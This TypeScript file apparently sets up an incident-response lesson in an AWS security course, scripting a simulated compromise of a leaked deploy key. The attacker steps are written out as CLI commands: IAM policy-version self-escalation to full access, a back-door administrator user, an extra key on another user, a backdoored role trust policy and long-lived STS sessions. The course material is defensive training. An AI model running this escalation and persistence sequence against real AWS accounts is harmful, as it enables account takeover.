/**
 * The world of lesson 19: an account whose deploy pipeline's access key leaked. Before the learner
 * arrives, the attacker used it from 198.51.100.77: reconnaissance, a new default version of the
 * pipeline's own policy DeployTools (which let it call iam:CreatePolicyVersion on itself), a
 * back-door administrator, a second key on an existing user, a trust policy change on the role
 * `ops`, a role session of ops and a GetSessionToken session — temporary credentials that outlive
 * the key. The pipeline's legitimate work (from 203.0.113.10) is in the trail too: S3 data events
 * for dojo-site are selected, so least privilege can be read from it.
 */
import type { ExerciseInput } from '../../../src/course/exercise.ts';
import { policyFileText } from '../../../src/course/policy-file.ts';

type Step = NonNullable<Extract<ExerciseInput['start'], { world: unknown }>['steps']>[number];

/** Where the attacker called from. */
export const ATTACKER_IP = '198.51.100.77';
/** The pipeline's own address. */
export const CI_IP = '203.0.113.10';
/** The customer managed policy attached to deploy. */
export const DEPLOY_TOOLS = 'arn:aws:iam::{{accountId}}:policy/DeployTools';

/** What the pipeline really needs: list the site bucket and upload to it. */
export const SITE_DEPLOY = {
  Version: '2012-10-17',
  Statement: [
    { Sid: 'ListSite', Effect: 'Allow', Action: 's3:ListBucket', Resource: 'arn:aws:s3:::dojo-site' },
    { Sid: 'UploadSite', Effect: 'Allow', Action: 's3:PutObject', Resource: 'arn:aws:s3:::dojo-site/*' },
  ],
};

/** DeployTools v1: the pipeline's permissions, with the hole that let the attacker rewrite it. */
const DEPLOY_TOOLS_V1 = {
  Version: '2012-10-17',
  Statement: [
    ...SITE_DEPLOY.Statement,
    {
      Sid: 'MaintainOwnPolicy',
      Effect: 'Allow',
      Action: ['iam:GetPolicy', 'iam:GetPolicyVersion', 'iam:ListPolicyVersions', 'iam:CreatePolicyVersion'],
      Resource: DEPLOY_TOOLS,
    },
  ],
};

const EVERYTHING = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] };

/** The role ops' trust policy before the attack: only EC2 instances. */
export const OPS_TRUST = {
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' }, Action: 'sts:AssumeRole' }],
};

const OPS_TRUST_BACKDOORED = {
  Version: '2012-10-17',
  Statement: [
    ...OPS_TRUST.Statement,
    { Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::{{accountId}}:user/deploy' }, Action: 'sts:AssumeRole' },
  ],
};

const asAttacker = (run: string, extra: Partial<{ save: Record<string, string>; mayFail: boolean }> = {}): Step => ({
  run: `${run} --profile deploy`,
  sourceIp: ATTACKER_IP,
  ...extra,
});

const json = (value: unknown) => `'${JSON.stringify(value)}'`;

/** The scene, after the administrator session: the account, a day of normal work, then the attack. */
export function incidentSteps(): Step[] {
  return [
    'aws s3api create-bucket --bucket dojo-trail-logs',
    'aws cloudtrail create-trail --name dojo-trail --s3-bucket-name dojo-trail-logs',
    `aws cloudtrail put-event-selectors --trail-name dojo-trail --event-selectors ${json([
      {
        ReadWriteType: 'All',
        IncludeManagementEvents: true,
        DataResources: [{ Type: 'AWS::S3::Object', Values: ['arn:aws:s3:::dojo-site/'] }],
      },
    ])}`,
    'aws s3api create-bucket --bucket dojo-site',
    `aws iam create-role --role-name ops --max-session-duration 43200 --assume-role-policy-document ${json(OPS_TRUST)}`,
    'aws iam attach-role-policy --role-name ops --policy-arn arn:aws:iam::aws:policy/ReadOnlyAccess',
    'aws iam create-user --user-name ana',
    'aws iam attach-user-policy --user-name ana --policy-arn arn:aws:iam::aws:policy/IAMReadOnlyAccess',
    { run: 'aws iam create-access-key --user-name ana', save: { ANA_KEY: 'AccessKey.AccessKeyId' } },
    'aws iam create-user --user-name deploy',
    `aws iam create-policy --policy-name DeployTools --policy-document ${json(DEPLOY_TOOLS_V1)}`,
    `aws iam attach-user-policy --user-name deploy --policy-arn ${DEPLOY_TOOLS}`,
    {
      run: 'aws iam create-access-key --user-name deploy',
      save: { DEPLOY_KEY: 'AccessKey.AccessKeyId', DEPLOY_SECRET: 'AccessKey.SecretAccessKey' },
    },
    { advanceClock: 1800 },
    // The pipeline's normal work.
    'echo "<h1>Dojo</h1>" > index.html',
    { run: 'aws s3api put-object --bucket dojo-site --key index.html --body index.html --profile deploy', sourceIp: CI_IP },
    { run: 'aws s3api list-objects-v2 --bucket dojo-site --profile deploy', sourceIp: CI_IP },
    { run: 'aws s3api put-object --bucket dojo-site --key about.html --body index.html --profile deploy', sourceIp: CI_IP },
    { advanceClock: 3600 },
    // The attack.
    asAttacker('aws sts get-caller-identity'),
    asAttacker('aws iam list-users', { mayFail: true }),
    asAttacker('aws iam list-attached-user-policies --user-name deploy', { mayFail: true }),
    asAttacker(`aws iam get-policy-version --policy-arn ${DEPLOY_TOOLS} --version-id v1`),
    asAttacker(`aws iam create-policy-version --policy-arn ${DEPLOY_TOOLS} --policy-document ${json(EVERYTHING)} --set-as-default`),
    { advanceClock: 90 },
    asAttacker('aws iam create-user --user-name backup-svc'),
    asAttacker('aws iam attach-user-policy --user-name backup-svc --policy-arn arn:aws:iam::aws:policy/AdministratorAccess'),
    asAttacker('aws iam create-access-key --user-name backup-svc'),
    asAttacker('aws iam create-access-key --user-name ana'),
    asAttacker(`aws iam update-assume-role-policy --role-name ops --policy-document ${json(OPS_TRUST_BACKDOORED)}`),
    { advanceClock: 30 },
    asAttacker('aws sts assume-role --role-arn arn:aws:iam::{{accountId}}:role/ops --role-session-name maint --duration-seconds 43200', {
      save: { ROLE_KEY: 'Credentials.AccessKeyId', ROLE_SECRET: 'Credentials.SecretAccessKey', ROLE_TOKEN: 'Credentials.SessionToken' },
    }),
    asAttacker('aws sts get-session-token --duration-seconds 43200', {
      save: { USER_KEY: 'Credentials.AccessKeyId', USER_SECRET: 'Credentials.SecretAccessKey', USER_TOKEN: 'Credentials.SessionToken' },
    }),
    { advanceClock: 600 },
  ];
}

/** A command line run with temporary credentials saved under `prefix` (ROLE, USER). */
export function withSession(prefix: 'ROLE' | 'USER', line: string): string {
  return `AWS_ACCESS_KEY_ID={{${prefix}_KEY}} AWS_SECRET_ACCESS_KEY={{${prefix}_SECRET}} AWS_SESSION_TOKEN={{${prefix}_TOKEN}} ${line}`;
}

/** The leaked key itself, as the attacker holds it. */
export function withLeakedKey(line: string): string {
  return `AWS_ACCESS_KEY_ID={{DEPLOY_KEY}} AWS_SECRET_ACCESS_KEY={{DEPLOY_SECRET}} ${line}`;
}

/** A step that saves a policy file as the file editor does (pretty-printed), for `file://NAME`. */
export function file(name: string, document: object): Step {
  return { writeFile: name, text: policyFileText(document) };
}
